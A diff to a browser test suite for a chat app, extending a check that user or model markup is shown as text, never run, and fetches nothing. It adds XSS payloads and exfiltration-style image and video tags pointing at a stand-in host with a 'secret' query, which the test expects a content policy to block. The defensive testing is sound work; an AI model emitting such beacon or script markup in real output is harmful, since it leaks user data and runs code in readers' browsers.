@@ -29,6 +29,15 @@ LONG_REPLY_TOKENS = 16000  # within the server's cap and the long-context model:
 LOGIN = ("tester", "s3cret")
 XSS_PAYLOADS = '<img src=x onerror="window.__xss = 1"> <script>window.__xss = 2</script>'
 
+# Text that gives a page's reader away if the page fetches it: a Markdown image, an <img>, a <video>.
+LEAKS = (
+    "![pixel](http://203.0.113.9/leak?q=secret) <img src='http://203.0.113.9/leak2'> "
+    "<video src='http://203.0.113.9/leak3' autoplay></video>"
+)
+# Tags that are not HTML's own: shown as text, with what follows them (they used to hide the rest of their
+# paragraph; the random test model writes <think> and stray "<" before letters in its answers).
+NOT_HTML = "Use cp <src> <dest> then, and List<T>, a stray <think> or <tool_call> tag: all shown."
+
 
 @pytest.fixture(scope="module")
 def demo_app_ui(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
@@ -119,18 +128,23 @@ def test_chat_shows_thinking_answer_badge_and_survives_a_reload(browser, demo_ap
     page.context.close()
 
 
-def test_markup_from_user_or_model_is_shown_but_never_runs(browser, demo_app_ui: RunningApp, tmp_path) -> None:
-    page = open_page(browser, demo_app_ui)
-    send(page, XSS_PAYLOADS)
+def test_markup_from_user_or_model_is_shown_or_cleaned_never_run_and_fetches_nothing(
+    browser, demo_app_ui: RunningApp, tmp_path
+) -> None:
+    requested: list[str] = []
+    page = open_page(browser, demo_app_ui, requested=requested)
+    blocked: list[str] = []
+    page.on("requestfailed", lambda request: "csp" in (request.failure or "").lower() and blocked.append(request.url))
+    send(page, f"{XSS_PAYLOADS} {LEAKS}")
     wait_for_stats(page, 1)
     # Model output takes the same path as an imported conversation's answers and thinking.
     imported = tmp_path / "hostile.json"
     hostile = [
-        {"role": "user", "content": "show me"},
+        {"role": "user", "content": NOT_HTML},
         {
             "role": "assistant",
-            "content": XSS_PAYLOADS + "\n\n```html\n<b>code stays code</b>\n```",
-            "thinking": XSS_PAYLOADS,
+            "content": f"{XSS_PAYLOADS} {LEAKS}\n\n{NOT_HTML}\n\n```html\n<b>code stays code</b>\n```",
+            "thinking": f"{XSS_PAYLOADS} {NOT_HTML}",
         },
     ]
     imported.write_text(json.dumps(hostile), encoding="utf-8")
@@ -139,11 +153,15 @@ def test_markup_from_user_or_model_is_shown_but_never_runs(browser, demo_app_ui:
     page.locator("#qc-chat .thought-group .title").first.click()
     page.wait_for_timeout(500)
     chat_text = page.inner_text("#qc-chat")
-    assert chat_text.count('<img src=x onerror="window.__xss = 1">') >= 2  # shown as text, thinking included
+    assert chat_text.count(NOT_HTML) == 3, chat_text  # question, answer and thinking, each whole
     assert "<b>code stays code</b>" in chat_text
-    assert page.locator("#qc-chat img[src='x']").count() == 0
+    assert page.locator("#qc-chat [onerror]").count() == 0
     assert page.locator("#qc-chat script").count() == 0
     assert page.evaluate("window.__xss") is None
+    # The page's policy: the browser refuses each fetch from elsewhere before it leaves (this machine has no
+    # network: a fetch that left would fail too, but not for this reason).
+    outside = [url for url in requested if is_outside(url)]
+    assert outside and sorted(outside) == sorted(blocked), (outside, blocked)
     page.context.close()
 
 
